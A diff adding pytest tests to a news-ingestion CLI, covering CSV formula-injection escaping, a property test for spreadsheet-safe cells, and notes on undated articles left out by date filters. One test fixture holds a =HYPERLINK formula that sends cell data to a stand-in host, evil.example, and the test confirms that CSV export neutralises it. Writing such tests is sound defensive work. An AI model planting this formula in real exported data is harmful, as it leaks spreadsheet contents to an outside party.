@@ -11,6 +11,8 @@ import sys
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from newsingest.cli import cli
 
@@ -526,3 +528,98 @@ def test_status_says_nothing_of_title_only_articles_when_there_are_none(seeds):
     run("add", seeds, "--workers", "0")
     assert "title only" not in run("status").stdout
     assert json.loads(run("status", "--format", "json").stdout)["title_only"] == 0
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+    tmp_path, isolated_db
+):
+    folder = tmp_path / "scraped"
+    folder.mkdir()
+    (folder / "a.txt").write_text(
+        '=HYPERLINK("http://evil.example/?d="&A1,"Harga beras")\n\n'
+        "@SUM(1+1) harga beras naik di pasar induk Cipinang menjelang akhir pekan, kata "
+        "pedagang beras kepada wartawan pada hari Senin.\n",
+        encoding="utf-8",
+    )
+    run("add", folder, "--workers", "0")
+    exported = next(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
+    assert exported["title"] == "'" + '=HYPERLINK("http://evil.example/?d="&A1,"Harga beras")'
+    assert exported["body"].startswith("'@SUM(1+1) harga beras")
+    found = next(csv.DictReader(io.StringIO(run("query", "beras", "--format", "csv").stdout)))
+    assert found["title"].startswith("'=HYPERLINK(")
+    # JSON output is for programs and keeps the text as it is
+    assert json.loads(run("export").stdout)["title"].startswith("=HYPERLINK(")
+
+
+def test_spreadsheet_safe_numbers_and_plain_text_unchanged():
+    from newsingest.render import spreadsheet_safe
+
+    assert spreadsheet_safe("-6.2146") == "-6.2146"
+    assert spreadsheet_safe("+62") == "+62"
+    assert spreadsheet_safe("Jakarta - Polisi") == "Jakarta - Polisi"
+    assert spreadsheet_safe("- butir pertama") == "'- butir pertama"
+    assert spreadsheet_safe("-1+1") == "'-1+1"
+    assert spreadsheet_safe("\t=1") == "'\t=1"
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(min_size=1))
+def test_a_csv_text_cell_reads_back_as_written_or_apostrophed_and_never_as_a_formula(text):
+    from newsingest.render import csv_rows
+
+    written = "".join(csv_rows([{"t": text}], ["t"]))
+    cell = list(csv.reader(io.StringIO(written, newline="")))[1][0]
+    assert cell in (text, "'" + text)
+    assert cell == text or text[0] in "=+-@\t\r"
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) is not None
+
+
+def test_a_date_bound_says_how_many_matches_it_leaves_out_for_having_no_date(
+    tmp_path, isolated_db
+):
+    folder = tmp_path / "news"
+    folder.mkdir()
+    for n in range(4):
+        (folder / f"{n}.txt").write_text(
+            f"Banjir nomor {n}\n\nBanjir melanda desa nomor {n} setelah hujan deras semalam, "
+            "kata warga yang mengungsi.\n",
+            encoding="utf-8",
+        )
+    # two dated by the sidecar, two with no date anywhere
+    (folder / "meta.csv").write_text("file,date\n0.txt,2017-05-02\n1.txt,2019-01-10\n")
+    run("add", folder, "--workers", "0")
+    note = "note: 2 more matching articles have no publication date; --since/--until leave them out"
+    bounded = run("query", "banjir", "--since", "2018")
+    assert bounded.stderr.splitlines() == ["1 shown of 1 matching", note]
+    assert note in run("query", "banjir", "--until", "2030", "--format", "jsonl").stderr
+    assert note in run("query", "--since", "1900", "--facets").stderr
+    exported = run("export", "--since", "1900", "--match", "banjir")
+    assert exported.stdout.count("\n") == 2 and exported.stderr.splitlines() == [note]
+    # no bound, nothing left out; none undated among the matches, nothing to say
+    assert "no publication date" not in run("query", "banjir").stderr
+    (folder / "meta.csv").write_text(
+        "file,date\n" + "".join(f"{n}.txt,2017-05-0{n + 1}\n" for n in range(4))
+    )
+    run("add", folder, "--workers", "0")
+    assert "no publication date" not in run("query", "banjir", "--since", "2018").stderr
+
+
+def test_stats_with_a_date_bound_says_how_many_articles_it_left_out_undated(
+    tmp_path, isolated_db
+):
+    folder = tmp_path / "news"
+    folder.mkdir()
+    for n in range(3):
+        (folder / f"{n}.txt").write_text(
+            f"Banjir nomor {n}\n\nBanjir melanda desa nomor {n} setelah hujan deras.\n",
+            encoding="utf-8",
+        )
+    (folder / "meta.csv").write_text("file,date\n0.txt,2017-05-02\n")
+    run("add", folder, "--workers", "0")
+    # "publication date known: 100 %" of the articles a bound keeps: the others are named
+    result = run("stats", "--since", "1900", "--format", "json")
+    assert json.loads(result.stdout)["articles"] == 1
+    assert result.stderr.splitlines() == [
+        "note: 2 more matching articles have no publication date; --since/--until leave them out"
+    ]
+    assert "no publication date" not in run("stats").stderr
